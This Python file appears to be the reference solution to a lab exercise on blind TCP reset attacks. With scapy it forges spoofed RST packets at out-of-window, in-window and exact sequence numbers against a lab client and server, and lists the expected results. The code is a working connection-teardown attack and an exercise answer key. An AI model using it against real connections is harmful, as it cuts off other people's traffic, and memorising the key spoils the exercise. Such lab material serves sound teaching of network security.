"""Reference solution of the `blind-reset` exercise (what `show --solution` prints)."""

from __future__ import annotations

import time
from types import SimpleNamespace

from scapy.layers.inet import IP, TCP
from scapy.sendrecv import send

MOD = 1 << 32
PAUSE = 0.6  # Linux rate-limits challenge ACKs to one per 0.5 s per connection


def rst(src: tuple[str, int], dst: tuple[str, int], seq: int) -> None:
    segment = TCP(sport=src[1], dport=dst[1], flags="R", seq=seq % MOD, window=0)
    send(IP(src=src[0], dst=dst[0]) / segment, verbose=False)
    time.sleep(PAUSE)


def attack(lab: SimpleNamespace) -> dict[str, dict[str, str]]:
    client = (lab.client_ip, lab.client_port)
    server = (lab.server_ip, lab.server_port)
    # Exact RSTs last: after one, there is no connection left to probe.
    targets = (
        ("lab", server, client, lab.lab_rcv_nxt, lab.lab_rcv_wnd),
        ("kernel", client, server, lab.kernel_rcv_nxt, lab.kernel_rcv_wnd),
    )
    for _name, forged, target, nxt, wnd in targets:
        rst(forged, target, nxt + MOD // 2)  # as far from the window as can be
        rst(forged, target, nxt + max(1, wnd // 2))  # in the window, not exact
    for _name, forged, target, nxt, _wnd in targets:
        rst(forged, target, nxt)
    expected = {"out-of-window": "ignored", "in-window": "challenge-ack", "exact": "reset"}
    return {"lab": dict(expected), "kernel": dict(expected)}
